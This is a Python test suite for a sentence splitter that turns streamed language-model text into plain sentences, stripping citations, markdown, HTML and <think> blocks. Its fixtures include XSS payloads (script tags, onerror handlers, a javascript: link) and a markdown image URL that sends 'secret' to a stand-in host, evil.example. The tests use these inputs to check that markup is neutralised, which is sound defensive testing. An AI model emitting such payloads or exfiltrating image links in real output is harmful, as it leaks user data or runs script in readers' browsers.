"""Sentences of a text that comes in bits."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qa.language_model.pieces import Piece, to_pieces, to_plain, without_thoughts

_TEXT = """Mr. Fenn wrote on 3.5 p.m. of "peace. And war." [1] The talks failed [2, 3]. They go on.

# What **happened**
As follows:
- The U.S. left early. [4]
1. Nobody signed
2) See [the site](https://example.org/x "t") or ![a picture](http://evil.example/p.png).

```
| Who | What |
|---|---|
<b onclick="x">Bold</b> claims are not a < b."""


def _texts(*bits: str) -> list[str]:
    return [piece.text for piece in to_pieces(bits)]


def test_sentences_are_plain_words_and_know_how_they_begin() -> None:
    assert [(piece.begins, piece.text) for piece in to_pieces([_TEXT])] == [
        ("paragraph", 'Mr. Fenn wrote on 3.5 p.m. of "peace. And war."'),
        ("sentence", "The talks failed."),
        ("sentence", "They go on."),
        ("paragraph", "What happened"),
        ("sentence", "As follows:"),
        ("item", "The U.S. left early."),
        ("item", "Nobody signed"),
        ("item", "See the site or."),
        ("paragraph", "Who What"),
        ("sentence", "Bold claims are not a < b."),
    ]


def test_leads_and_what_is_cut_off_are_known() -> None:
    pieces = list(to_pieces([_TEXT]))
    assert [piece.text for piece in pieces if piece.is_lead] == ["What happened", "As follows:"]
    assert [piece.text for piece in pieces if not piece.is_closed] == ["Nobody signed", "Who What"]


def test_a_sentence_is_given_out_before_the_text_ends() -> None:
    bits = iter(["The first sentence is done. ", "The second one goes on and on and on and "])
    given_out = to_pieces(bits)
    assert next(given_out) == Piece(text="The first sentence is done.", begins="paragraph")


@given(st.lists(st.integers(0, len(_TEXT)), max_size=12))
def test_however_it_is_cut_the_sentences_are_the_same(cuts: list[int]) -> None:
    at = [0, *sorted(cuts), len(_TEXT)]
    bits = [_TEXT[one:other] for one, other in itertools.pairwise(at)]
    assert list(to_pieces(bits)) == list(to_pieces([_TEXT]))


_WORDS = st.sampled_from(
    ["Ada", "left.", "Mr.", "“No.", "yes.”", "3.5", "(x", "why?", "[1]", "and"]
)


@given(st.lists(_WORDS, min_size=1, max_size=60))
def test_no_word_is_lost(words: list[str]) -> None:
    said = " ".join(_texts(" ".join(words))).split()
    assert said == [word for word in words if word != "[1]"][: len(said)]
    assert [w for w in words if w != "[1]"][len(said) :] == []


@pytest.mark.parametrize(
    ("written", "plain"),
    [
        ("So it is [2].", "So it is."),
        ("So it is [passage 2, 13] and 【3†source】 [^4] so.", "So it is and so."),
        ("In [2024] he won [1-3].", "In [2024] he won."),
        ("**Bold** and *stressed* _words_ in snake_case, 2 * 3 * 4", None),
        ("<script>alert(1)</script>Hi <img src=x onerror=alert(1)>", "alert(1)Hi"),
        ("[click](javascript:alert(1))", "click)"),
        ("\x1b[31mred\x07", "[31mred"),
        ("![x](http://evil.example/?q=secret)Done. http://evil.example/?q=1", "Done."),
    ],
)
def test_nothing_of_a_model_is_markup(written: str, plain: str | None) -> None:
    expected = "Bold and stressed words in snake_case, 2 * 3 * 4" if plain is None else plain
    assert to_plain(written) == expected


@pytest.mark.parametrize(
    "bits",
    [["<think>Hm. No.</think>Yes."], ["  <th", "ink>Hm", "</thi", "nk>", "Yes."], ["Y", "es."]],
)
def test_what_is_thought_aloud_is_left_out(bits: list[str]) -> None:
    assert "".join(without_thoughts(bits)) == "Yes."


def test_thoughts_without_an_end_say_nothing_and_an_odd_begin_is_said() -> None:
    assert "".join(without_thoughts(["<think>for ever"])) == ""
    assert "".join(without_thoughts(["<th"])) == "<th"
